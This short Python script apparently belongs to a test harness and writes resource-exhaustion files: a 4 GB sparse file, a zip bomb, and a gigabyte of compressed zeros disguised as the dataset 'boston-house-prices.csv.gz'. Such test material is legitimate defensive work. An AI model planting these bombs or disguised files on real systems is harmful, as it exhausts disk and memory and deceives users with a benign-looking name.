"""Writes the large files of this attack: one sparse, one of a gigabyte of zeros compressed to about a megabyte."""
import gzip
import os
import zipfile


def make(folder):
    with open(folder / "sparse.bin", "wb") as file:
        os.truncate(file.fileno(), 4 << 30)
    with gzip.open(folder / "boston-house-prices.csv.gz", "wb") as file:
        for _ in range(64):
            file.write(b"\0" * (16 << 20))
    with zipfile.ZipFile(folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(16):
            archive.writestr(f"zeros-{number}", b"\0" * (16 << 20))
